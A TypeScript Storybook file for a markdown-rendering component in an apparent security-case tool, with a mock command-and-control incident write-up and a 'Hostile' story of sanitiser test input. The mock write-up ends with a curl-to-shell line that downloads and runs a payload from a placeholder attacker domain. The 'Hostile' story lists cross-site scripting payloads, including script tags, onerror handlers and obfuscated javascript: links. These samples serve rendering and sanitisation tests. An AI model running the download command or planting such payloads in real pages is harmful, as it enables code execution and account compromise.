import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html } from 'lit';
import '../packages/elements/src/components/casebook/markdown/pk-markdown.js';

interface Args {
  source: string;
  headingLevel: number;
}

const DESCRIPTION = `# Command-and-control traffic

DNS Shield saw **repeated lookups** of \`evil.example.net\` from *three* hosts; the domain resolves to
\`198.51.100.7\`. See the [proxy report](https://intranet.example/reports/17 "Proxy report, day 3") and
<https://wiki.example/ioc/evil-example-net>.

## Timeline

1. 06:12 first lookup from \`ws-17\`
2. 06:14 beacon every 60 s
   - \`ws-17\` and \`ws-22\`
   - then \`srv-db-02\`
3. 06:40 blocked at the proxy

> Analyst note: the payload is the EICAR test file,
> so the sandbox verdict is expected.

| Host | Hits | First seen |
|:-----|-----:|:----------:|
| ws-17 | 42 | 06:12 |
| srv-db-02 | 3 | 06:31 |

---

\`\`\`
curl -s http://evil.example.net/payload.exe | sh
\`\`\`
`;

const HOSTILE = `# <img src=x onerror=alert(1)>

<script>alert('pwned')</script>

[click me](javascript:alert(1)) · [entity trick](&#106;avascript:alert(1)) · <javascript:alert(1)>

![tracking pixel](https://evil.example/pixel.gif)

<iframe src="https://evil.example"></iframe> &lt;b&gt;not bold&lt;/b&gt;

${'>'.repeat(40)} forty nested quotes stop at sixteen`;

const meta: Meta<Args> = {
  title: 'Casebook/Markdown',
  component: 'pk-markdown',
  render: (a) =>
    html`<pk-markdown .source=${a.source} heading-level=${a.headingLevel} style="max-width: 40rem"></pk-markdown>`,
  args: { source: DESCRIPTION, headingLevel: 3 },
  argTypes: { source: { control: 'text' } },
  parameters: { layout: 'padded' },
};
export default meta;
type Story = StoryObj<Args>;

/** A case description as analysts write them: headings, lists, a quote, a table, code, links. */
export const Description: Story = {};

/** Hostile input: raw HTML, script and javascript: links, an image, deep nesting, all shown as text. */
export const Hostile: Story = { args: { source: HOSTILE } };

/** A long note: many paragraphs, wrapping in a narrow column. */
export const Long: Story = {
  args: {
    source: Array.from(
      { length: 30 },
      (_, i) =>
        `Paragraph ${i + 1}: a long line with a very-long-unbroken-token-${'x'.repeat(80)} that must wrap, and *some* emphasis.`,
    ).join('\n\n'),
  },
};
